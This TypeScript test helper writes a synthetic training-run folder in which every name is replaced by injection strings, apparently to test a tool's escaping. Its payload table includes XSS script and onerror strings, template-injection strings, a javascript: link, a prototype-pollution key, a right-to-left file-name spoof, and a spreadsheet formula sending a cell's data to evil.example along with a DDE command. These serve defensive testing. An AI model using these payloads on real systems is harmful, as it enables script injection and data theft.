import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join, resolve } from "node:path";

/** Sets this in a page that runs what it should show. */
export const TRAP = "globalThis.hit";

/** Names that break a page, a template, a table, a line or a width where they are not taken for mere letters. */
export const HOSTILE_NAMES: Readonly<Record<string, string>> = {
  "end of a script": `</script><script>${TRAP}=1</script></style></title><!--`,
  "an image that fails": `"'><img src=x onerror="${TRAP}=1"><svg/onload=${TRAP}=1>`,
  "templates of three kinds": `{{constructor.constructor "${TRAP}=1"}}{{{this}}}\${${TRAP}=1}<%= 1 %>`,
  "right to left": "\u202etxt.exe\u2066 \u0642\u0637\u0629 \u05d7\u05ea\u05d5\u05dc\u200f",
  "ten thousand characters": "abcdefghij".repeat(1000),
  "ten thousand in words": "a long name ".repeat(833),
  emoji: "👩‍👩‍👧‍👦🏳️‍🌈 ｗｉｄｅ 漢字 e\u0301\u0301\u0301\u0301",
  "control characters": "a\u0000b\u0007c\u001b[31md\ttab\nnewline\r\u2028\ufeff\ud800",
  "a formula": `=HYPERLINK("http://evil.example/?"&A1,"click")|cmd|' /C calc'!A0`,
  Markdown: `[x](javascript:${TRAP}=1) \`\`\`\n# @everyone | ~~a~~ <details> ![i](http://evil.example/i.png)`,
  "of every object": "__proto__",
};

const BASE = resolve(import.meta.dirname, "../../fixtures/scenarios/divergence");

/** A trained run of the project whose every name is `name`, written to a folder that is called so as well; returns the folder. */
export async function writeHostileRun(parent: string, name: string): Promise<string> {
  const folder = join(parent, fileName(name));
  await mkdir(join(folder, "splits"), { recursive: true });
  const write = (file: string, text: string): Promise<void> => writeFile(join(folder, file), text);
  const read = (file: string): Promise<string> => readFile(join(BASE, file), "utf8");
  await write("metrics.csv", metrics(await read("metrics.csv"), name));
  await write(
    "layers.csv",
    replaced(
      await read("layers.csv"),
      /^(\d+),(\w+)/,
      ([, step, layer]) => `${step},${quoted(`${name}.${layer}`)}`,
    ),
  );
  await write("model.json", model(await read("model.json"), name));
  await write("config.yaml", config(await read("config.yaml"), name));
  for (const split of ["train", "val", "test"]) {
    await write(`predictions_${split}.csv`, predictions(await read(`predictions_${split}.csv`), name));
    await write(
      `features_${split}.csv`,
      replaced(await read(`features_${split}.csv`), /\bf(\d+)\b/g, ([, i]) => quoted(`${name} ${i}`)),
    );
    await write(`splits/${split}.txt`, `${name.replace(/[\r\n]/g, " ")}\nx1\nx2\n`);
  }
  await write(
    "class_counts.json",
    replaced(await read("class_counts.json"), /"(\d)":/g, ([, i]) => `${JSON.stringify(`${name} ${i}`)}:`),
  );
  await write("train.log", `${name}\n${await read("train.log")}WARNING: ${name}\nRuntimeError: ${name}\n`);
  await write(
    "samples.jsonl",
    [0, 1, 2].map((sample) => JSON.stringify({ sample, text: `${name} ${name} ${name}` })).join("\n"),
  );
  await write(
    "task_accuracy.json",
    JSON.stringify({
      tasks: [`${name} 1`, `${name} 2`],
      accuracy: [
        [0.97, 0.2],
        [0.3, 0.96],
      ],
    }),
  );
  await write(
    "robustness.json",
    JSON.stringify({ clean_accuracy: 0.9, attacks: [{ name, epsilon: 0.3, accuracy: 0.2 }] }),
  );
  await write("requirements.txt", `torch==2.1.2\n${name}==1.0\n`);
  await write(fileName(`${name}.csv`), "step,loss\n1,2\n2,1\n");
  return folder;
}

/** As much of a name as a file system takes: no slash, no NUL, 200 bytes. */
function fileName(name: string): string {
  let whole = name.replace(/[/\0\ud800]/g, "_");
  while (Buffer.byteLength(whole) > 200) whole = [...whole].slice(0, -10).join("");
  return whole;
}

/** The logged series keep their roles; beside each stands one of the hostile name. */
function metrics(text: string, name: string): string {
  const [head = "", ...rows] = text.trimEnd().split("\n");
  const extra = [`${name}/val_loss`, `val/${name}`, `${name} grad_norm`].map(quoted).join(",");
  return [
    `${head},${extra}`,
    ...rows.map((row, i) => `${row},${[1 / (i + 1), i, i % 7].join(",")}`),
    "",
  ].join("\n");
}

/** Of 200 rows: long names in each of thousands would weigh a hundred megabytes. */
function predictions(whole: string, name: string): string {
  const text = whole.split("\n").slice(0, 201).join("\n");
  const heads = replaced(text, /prob_(\d)/g, ([, i]) => quoted(`prob_${name} ${i}`));
  return replaced(heads, /^(x\d+),(\d),(\d)/gm, ([, id, truth, said]) =>
    [id, `${name} ${truth}`, `${name} ${said}`].map((cell) => quoted(cell ?? "")).join(","),
  );
}

function model(text: string, name: string): string {
  const { layers } = JSON.parse(text) as { layers: { name: string; type: string }[] };
  const renamed = layers.map((layer) => ({ ...layer, name: `${name}.${layer.name}`, type: name }));
  return JSON.stringify({ layers: renamed });
}

/** Settings that causes look at keep their keys and take the name as value where they are words. */
function config(text: string, name: string): string {
  const said = JSON.stringify(name);
  const worded = text
    .replace("model: mlp", `model: ${said}`)
    .replace("dataset: clusters", `dataset: ${said}`);
  return `${worded}${said}: ${said}\nnested:\n  ${said}:\n    - ${said}\n`;
}

function replaced(text: string, pattern: RegExp, by: (match: readonly string[]) => string): string {
  const all = pattern.global ? pattern : new RegExp(pattern.source, "gm");
  return text.replace(all, (...match) => by(match as string[]));
}

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}
